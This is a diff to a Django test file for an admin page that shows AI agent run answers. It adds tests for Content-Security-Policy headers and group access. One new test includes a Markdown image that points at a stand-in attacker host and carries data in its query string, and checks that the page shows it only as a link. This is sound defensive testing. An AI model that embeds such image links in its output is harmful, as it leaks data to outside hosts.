@@ -1,8 +1,11 @@
 """The run detail page of the admin: the answer's Markdown rendered (and made safe), the plan
 and the timings readable."""
 
+from django.contrib.auth.models import Group
+
 from hawk.models import AgentRun
-from tests.hawk.admin.support import change_url
+from tests.conftest import restore_roles
+from tests.hawk.admin.support import admin_url, change_url
 
 ANSWER = """## Decision: PASS
 
@@ -46,3 +49,31 @@ def test_a_high_risk_answer_carries_a_banner_naming_what_it_contradicts(admin_cl
     assert "Critical risk: check this answer before relying on it." in page
     assert "decision FAIL, the facts say PASS" in page
     assert "check this answer" not in admin_client.get(change_url(quiet)).content.decode()
+
+
+def test_an_image_in_an_answer_is_shown_as_a_link_never_loaded(admin_client, db):
+    answer = "Look: ![chart](https://evil.example/pixel?d=CNY-capacity) done"
+    run = AgentRun.objects.create(prompt="p", answer=answer, status="completed")
+    page = admin_client.get(change_url(run)).content.decode()
+    shown = page.split('class="hawk-answer"')[1].split("</div>")[0]
+    assert "<img" not in shown
+    assert 'href="https://evil.example/pixel?d=CNY-capacity"' in shown
+    assert ">chart<" in shown
+
+
+def test_admin_pages_carry_a_content_security_policy(admin_client, db):
+    run = AgentRun.objects.create(prompt="p", answer="a", status="completed")
+    policy = admin_client.get(change_url(run))["Content-Security-Policy"]
+    assert "default-src 'self'" in policy
+    assert "img-src 'self'" in policy and "script-src 'self'" in policy
+
+
+def test_members_of_the_admin_and_operations_groups_open_run_history(db, client, django_user_model):
+    restore_roles()
+    run = AgentRun.objects.create(prompt="p", answer="a", status="completed")
+    for role in ("admin", "operations"):
+        member = django_user_model.objects.create_user(f"{role}-staff", is_staff=True)
+        member.groups.add(Group.objects.get(name=role))
+        client.force_login(member)
+        assert client.get(admin_url(AgentRun, "changelist")).status_code == 200, role
+        assert client.get(change_url(run)).status_code == 200, role
